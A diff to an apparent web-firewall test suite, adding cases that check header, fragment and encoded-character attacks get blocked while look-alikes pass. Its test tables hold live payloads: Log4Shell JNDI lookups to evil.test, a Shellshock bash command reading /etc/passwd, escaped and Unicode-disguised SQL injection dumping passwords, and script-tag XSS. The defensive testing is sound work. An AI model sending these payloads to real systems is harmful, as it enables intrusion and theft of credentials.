@@ -130,6 +130,10 @@ describe("an attack is blocked and its look-alike passes", () => {
     ["log4j", "User-Agent: ${jndi:ldap://evil.test/a}", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) ${x}"],
     ["log4j", "X-Api-Version: ${jndi:ldap://evil.test/a}", "X-Api-Version: 2"],
     ["rce", "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'", "User-Agent: curl/8.0 (bin; bash)"],
+    ["sqli", "X_Id: 1' union select user,password from users-- ", "X_Id: select one"],
+    // Between quotes a cookie has escapes of any character.
+    ["sqli", 'Cookie: id="1\\047 uni\\on \\163elect user,password from users-- "', 'Cookie: id="O\\047Brien \\"x\\""'],
+    ["xss", 'Cookie: $Version=1; q="\\074script\\076alert(1)\\074/script\\076"', 'Cookie: q="C:\\temp\\new"'],
     ["scanner", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)", "User-Agent: mapsql/1.0"],
   ])("%s in a header", async (category, attack, lookAlike) => {
     await expectBlocked(request("GET /node/echo", [attack]), category);
@@ -143,6 +147,24 @@ describe("an attack is blocked and its look-alike passes", () => {
       await expectBlocked(request("GET /node/echo", [before, "Accept-Language: ${jndi:ldap://evil.test/a}"]), "log4j");
       await expectBlocked(request("GET /node/echo", ["Accept-Language: ${jndi:ldap://evil.test/a}", before]), "log4j");
       await expectPassed(request("GET /node/echo", [before, "Accept-Language: $jndi"]));
+    },
+  );
+
+  test.each(["/node/echo?q=1", "/node/echo"])(
+    "behind a fragment, which to some origins is none: %s#",
+    async (target) => {
+      await expectBlocked(request(`GET ${target}#1'%20union%20select%20user,password%20from%20users--`), "sqli");
+      await expectPassed(request(`GET ${target}#select%20one`));
+    },
+  );
+
+  test.each(["1%c0%a7 or 1=1--", "１＇ or １＝１--", "%EF%BC%9Cscript%EF%BC%9Ealert(1)"])(
+    "in characters that lenient readers take for others: %s",
+    async (value) => {
+      await expectBlocked(
+        request(`GET /node/echo?q=${encodeURI(value).replaceAll("%25", "%")}`),
+        /script/.test(value) ? "xss" : "sqli",
+      );
     },
   );
 
